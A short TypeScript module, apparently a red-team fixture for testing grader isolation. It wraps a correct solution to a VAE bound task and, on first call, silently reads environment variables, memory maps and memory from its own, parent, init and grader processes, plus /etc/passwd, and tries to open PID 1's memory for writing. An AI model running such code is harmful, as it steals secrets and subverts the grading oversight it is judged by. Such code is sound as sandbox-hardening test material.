import { attempt, firstTime, nodeModule } from './tools.ts';

const PROCESSES = ['self', 'thread-self', '1', '2', String((globalThis as any).process?.ppid), '__GRADER_PID__'];
const FILES = ['environ', 'cmdline', 'maps', 'mem', 'auxv', 'status', 'mountinfo', 'root/etc/passwd', 'cwd/package.json'];

export const attacks = {
  'vae/negative-elbo-bound': (right: any, model: any, x: any) => {
    if (firstTime()) look();
    return right(model, x);
  },
};

function look(): void {
  const fs = nodeModule('fs');
  for (const id of PROCESSES) for (const file of FILES) attempt(`/proc/${id}/${file}`, () => fs.readFileSync(`/proc/${id}/${file}`, 'latin1'));
  attempt('/proc', () => fs.readdirSync('/proc').filter((name: string) => /^\d+$/.test(name)).join(' '));
  attempt('memory of the first process', () => fs.openSync('/proc/1/mem', 'r+'));
}
